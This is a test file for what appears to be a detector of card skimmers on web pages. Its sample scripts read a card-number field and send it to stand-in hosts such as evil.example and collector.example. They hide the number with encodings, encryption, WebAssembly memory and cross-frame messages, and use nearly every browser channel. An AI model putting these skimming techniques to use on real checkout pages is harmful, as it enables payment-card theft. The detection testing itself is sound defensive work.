import { expect, it } from 'vitest'
import { all, run, shareBrowser, withCard } from './run.ts'

shareBrowser()

it('finds the card under every encoding that does not need a key', async () => {
  const told = await run(
    withCard(`
    const post = (name, body) => fetch('https://' + name + '.example/', { method: 'POST', body })
    const bytes = [...card].map((one) => one.charCodeAt(0))
    post('plain', JSON.stringify({ n: card }))
    post('base64', btoa(card))
    post('twice', btoa(btoa(card)))
    post('hex', bytes.map((one) => one.toString(16)).join(''))
    post('backwards', [...card].reverse().join(''))
    post('codes', bytes.join(','))
    post('percent', bytes.map((one) => '%' + one.toString(16)).join(''))
    post('xor', btoa(String.fromCharCode(...bytes.map((one) => one ^ 41))))
    post('xorkey', btoa(String.fromCharCode(...bytes.map((one, at) => one ^ 'k3y'.charCodeAt(at % 3)))))
    post('letters', [...card].map((one) => 'qwertyuiop'[one]).join(''))
    post('pieces', card.slice(0, 8)).then(() => post('pieces', card.slice(8)))`),
  )
  const found = new Map(
    all(told, 'sends').flatMap(({ what, to, encoding }) => (what === 'card' ? [[to.replace('.example', ''), encoding]] : [])),
  )
  expect(Object.fromEntries(found)).toEqual({
    plain: 'plain',
    base64: 'base64',
    twice: 'base64+base64',
    hex: 'hex',
    backwards: 'reversed',
    codes: 'char-codes',
    percent: 'url',
    xor: 'base64+xor',
    xorkey: 'base64+xor-key',
    letters: 'substitution',
    pieces: 'split',
  })
})

it('tells of an encrypted card as fields read and a host asked', async () => {
  const told = await run(
    withCard(`crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt'])
    .then((key) => crypto.subtle.encrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, key, new TextEncoder().encode(card)))
    .then((hidden) => navigator.sendBeacon('https://evil.example/e', hidden))`),
  )
  expect(all(told, 'sends')).toEqual([])
  expect(told.behaviours).toContainEqual({ kind: 'reads-field', field: 'card', how: 'value', gate: null })
  expect(all(told, 'contacts')).toEqual([{ kind: 'contacts', to: 'evil.example', way: 'beacon', gate: null }])
})

it('sees the card leave by every way that a page has', async () => {
  const told = await run(
    withCard(`
    const at = (way) => 'https://' + way + '.example/?c=' + card
    const add = (tag, name, value) => { const one = document.createElement(tag); one[name] = value; document.body.append(one); return one }
    fetch(at('a-fetch'))
    const request = new XMLHttpRequest(); request.open('POST', 'https://a-xhr.example/'); request.send(card)
    navigator.sendBeacon('https://a-beacon.example/', card)
    new Image().src = at('an-image')
    add('script', 'src', at('a-script'))
    add('iframe', 'src', at('a-frame'))
    add('link', 'rel', 'stylesheet').href = at('a-style')
    add('link', 'rel', 'dns-prefetch').href = '//' + card + '.a-name.example'
    add('video', 'src', at('a-video'))
    new EventSource(at('a-stream'))
    new FontFace('f', 'url(' + at('a-font') + ')').load().catch(() => 0)
    const socket = new WebSocket('wss://a-socket.example/'); socket.onopen = () => socket.send(card)
    new Worker(URL.createObjectURL(new Blob(['fetch("' + at('a-worker') + '")'])))
    new RTCPeerConnection({ iceServers: [{ urls: 'turn:a-peer.example', username: card, credential: 'x' }] })
    const form = add('form', 'action', 'https://a-form.example/'); form.method = 'post'; form.target = '_blank'
    form.innerHTML = '<input name="c">'; form.c.value = card; form.submit()
    addEventListener('pagehide', () => navigator.sendBeacon('https://at-leaving.example/', card))
    setTimeout(() => { location = at('a-page') }, 900)`),
  )
  const found = new Map(all(told, 'sends').flatMap(({ what, to, way }) => (what === 'card' ? [[to.replace('.example', ''), way]] : [])))
  expect(Object.fromEntries(found)).toEqual({
    'a-fetch': 'fetch',
    'a-xhr': 'xhr',
    'a-beacon': 'beacon',
    'an-image': 'image',
    'a-script': 'script',
    'a-frame': 'frame',
    'a-style': 'style',
    'a-name': 'dns-prefetch',
    'a-video': 'media',
    'a-stream': 'event-source',
    'a-font': 'font',
    'a-socket': 'websocket',
    'a-worker': 'fetch',
    'a-peer': 'webrtc',
    'a-form': 'navigation',
    'at-leaving': 'beacon',
    'a-page': 'navigation',
  })
})

it('sees a card that goes through the memory of WebAssembly', async () => {
  // A module with nothing but a memory of one page that it exports.
  const told = await run(`
    const { memory } = new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,5,3,1,0,1,7,10,1,6,109,101,109,111,114,121,2,0]))).exports
    ${withCard(`const { written } = new TextEncoder().encodeInto(card, new Uint8Array(memory.buffer, 8))
    fetch('https://evil.example/', { method: 'POST', body: memory.buffer.slice(8, 8 + written) })`)}`)
  expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
})

it('sees a card that is handed to a frame of another host, and one that a browser would not let go to plain http', async () => {
  const told = await run(`
    const frame = document.createElement('iframe')
    frame.src = 'https://collector.example/'
    document.body.append(frame)
    ${withCard("frame.contentWindow.postMessage({ card }, '*'); fetch('http://plain.example/', { method: 'POST', body: card }).catch(() => 0)")}`)
  const sent = all(told, 'sends').map(({ what, to, way }) => `${what} ${to} ${way}`)
  expect(new Set(sent)).toEqual(new Set(['card collector.example message', 'card plain.example fetch']))
})

it('waits for a frame that a press brings, which is told the card once it is there', async () => {
  const told = await run(`document.querySelector('#place_order').addEventListener('click', () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://collector.example/'
    frame.onload = () => frame.contentWindow.postMessage(document.getElementById('card-number').value, '*')
    document.body.append(frame)
  })`)
  expect(all(told, 'sends').map(({ what, to, way }) => `${what} ${to} ${way}`)).toEqual(['card collector.example message'])
})
